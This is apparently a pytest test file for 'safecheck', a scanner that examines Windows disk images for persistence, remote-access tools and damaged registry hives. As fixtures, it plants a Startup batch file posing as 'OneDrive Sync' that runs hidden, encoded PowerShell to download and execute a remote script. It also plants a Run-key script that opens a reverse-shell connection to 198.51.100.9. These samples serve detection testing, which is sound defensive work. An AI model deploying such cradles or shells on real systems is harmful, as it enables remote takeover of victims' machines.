"""A whole scan of a Windows disk: real hives, planted entries, a damaged hive."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from pathlib import Path

from win_fakeroot import (
    CONFIG,
    host,
    plant,
    planted_windows_root,
    shared_hive,
    software_hive,
    windows_root,
)

from safecheck.core.i18n import Translator
from safecheck.core.model import CoverageStatus, Severity
from safecheck.report.model import Report
from safecheck.scan import run as scan_engine
from safecheck.scan.collectors.host import Host
from safecheck.scan.collectors.windows import windows_collectors


def scan(root: Path) -> Report:
    return scan_engine.run_scan(
        host(root),
        windows_collectors(),
        Translator("en"),
        clock=lambda: datetime(2026, 11, 1, tzinfo=UTC),
    )


def test_benign_disk(tmp_path: Path) -> None:
    root = windows_root(tmp_path)
    report = scan(root)
    serious = {f.id for f in report.findings if f.severity >= Severity.MEDIUM}
    # The shared SYSTEM hive has Remote Desktop switched on: the only question it raises.
    assert serious == {"SC-WIN-RDP-ENABLED"}
    coverage = {c.id: c for c in report.coverage}
    assert coverage["windows.services"].status is CoverageStatus.OK
    assert coverage["windows.wmi"].status is CoverageStatus.NOT_APPLICABLE  # no repository
    assert "WMI" in coverage["windows.wmi"].reason


def test_planted_disk(tmp_path: Path) -> None:
    root = planted_windows_root(tmp_path)
    report = scan(root)
    ids = {f.id for f in report.findings}
    assert {
        "SC-WIN-ODD-LOCATION",
        "SC-TOOL-REMOTE-ACCESS",
        "SC-WIN-IFEO-DEBUGGER",
        "SC-WIN-DOWNLOAD-EXEC",
        "SC-WIN-RDP-ENABLED",
    } <= ids
    anydesk = next(f for f in report.findings if f.id == "SC-TOOL-REMOTE-ACCESS")
    assert "AnyDesk" in anydesk.title
    assert anydesk.evidence[0].path == "HKLM\\SYSTEM\\CurrentControlSet\\Services\\anydesk"
    task = next(f for f in report.findings if f.id == "SC-WIN-DOWNLOAD-EXEC")
    assert task.evidence[0].path == "C:\\Windows\\System32\\Tasks\\Sync"
    assert "{" not in "".join(f.title + f.explanation for f in report.findings)


def test_damaged_hives_are_coverage_rows(tmp_path: Path) -> None:
    root = windows_root(tmp_path, users=("alice",), system=False)
    shared_hive("corrupted_system_hive", root / CONFIG / "SYSTEM")
    (root / CONFIG / "SOFTWARE").write_bytes(b"regf" + bytes(4096))
    (root / "Users/alice/NTUSER.DAT").write_bytes(b"\0" * 10)
    report = scan(root)
    coverage = {c.id: c for c in report.coverage}
    for collector in ("windows.registry", "windows.services", "windows.remote", "windows.defender"):
        assert coverage[collector].status is CoverageStatus.PARTIAL, collector
    assert any("damaged hive" in d for d in coverage["windows.services"].details)
    assert not any(c.status is CoverageStatus.FAILED for c in report.coverage)


def test_linux_disk_is_not_applicable(tmp_path: Path) -> None:
    linux = scan_engine.run_scan(
        Host(platform="linux", root=tmp_path), windows_collectors(), Translator("fr")
    )
    # Collectors for another operating system are left out of the report altogether.
    assert linux.coverage == ()
    assert linux.findings == ()


def test_missing_hives_are_never_ok(tmp_path: Path) -> None:
    # The benign disk has SYSTEM and each person's NTUSER.DAT but no SOFTWARE hive: what
    # reads SOFTWARE is "partial" (the people's keys were read) or "not checked".
    report = scan(windows_root(tmp_path))
    coverage = {c.id: c for c in report.coverage}
    software = "C:\\Windows\\System32\\config\\SOFTWARE"
    assert coverage["windows.registry"].status is CoverageStatus.PARTIAL
    assert software in coverage["windows.registry"].reason
    assert coverage["windows.remote"].status is not CoverageStatus.OK
    assert coverage["windows.defender"].status is CoverageStatus.FAILED
    assert software in coverage["windows.defender"].reason
    assert coverage["windows.services"].status is CoverageStatus.OK  # SYSTEM is there
    # With a SOFTWARE hive the same rows are complete.
    other = tmp_path / "second"
    other.mkdir()
    root = windows_root(other)
    software_hive(root)
    complete = {c.id: c.status for c in scan(root).coverage}
    assert complete["windows.registry"] is CoverageStatus.OK
    assert complete["windows.remote"] is CoverageStatus.OK


def test_disk_without_system_hive(tmp_path: Path) -> None:
    root = windows_root(tmp_path, system=False)
    software_hive(root)
    coverage = {c.id: c for c in scan(root).coverage}
    assert coverage["windows.services"].status is CoverageStatus.FAILED
    assert "config\\SYSTEM" in coverage["windows.services"].reason
    assert coverage["windows.remote"].status is not CoverageStatus.OK


def test_startup_batch_file_with_hidden_encoded_powershell(tmp_path: Path) -> None:
    # The .bat in the all-users Startup folder is judged by what it runs, not by its name.
    root = windows_root(tmp_path)
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
    blob = base64.b64encode(inner.encode("utf-16-le")).decode()
    startup = root / "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
    (startup / "OneDrive Sync.bat").write_bytes(
        f"@echo off\r\npowershell -w hidden -nop -enc {blob}\r\n".encode()
    )
    report = scan(root)
    by_id = {f.id: f for f in report.findings}
    encoded = by_id["SC-SCRIPT-ENCODED-POWERSHELL"]
    assert encoded.severity is Severity.HIGH
    evidence = encoded.evidence[0]
    assert evidence.path is not None and evidence.path.endswith("StartUp\\OneDrive Sync.bat")
    assert evidence.line == 2
    assert evidence.command is not None and evidence.command.startswith("decoded: IEX")
    assert "SC-SCRIPT-HIDDEN-WINDOW" in by_id
    assert "SC-SCRIPT-DOWNLOAD-RUN" in by_id  # what the decoded text does


def test_run_key_runs_a_utf16_powershell_script(tmp_path: Path) -> None:
    root = windows_root(tmp_path)
    plant(
        root / "Users/alice/NTUSER.DAT",
        {
            "Software\\Microsoft\\Windows\\CurrentVersion\\Run": {
                "Sync": "string:powershell.exe -File C:\\Users\\alice\\AppData\\Roaming\\s.ps1"
            }
        },
    )
    script = root / "Users/alice/AppData/Roaming/s.ps1"
    script.parent.mkdir(parents=True, exist_ok=True)
    body = "\ufeff$c = New-Object Net.Sockets.TCPClient('198.51.100.9',443);$s = $c.GetStream()"
    script.write_bytes(body.encode("utf-16-le"))  # as Windows PowerShell ISE saves it
    found = [f for f in scan(root).findings if f.id == "SC-SCRIPT-REVERSE-SHELL"]
    assert found and found[0].evidence[0].path == "C:\\Users\\alice\\AppData\\Roaming\\s.ps1"
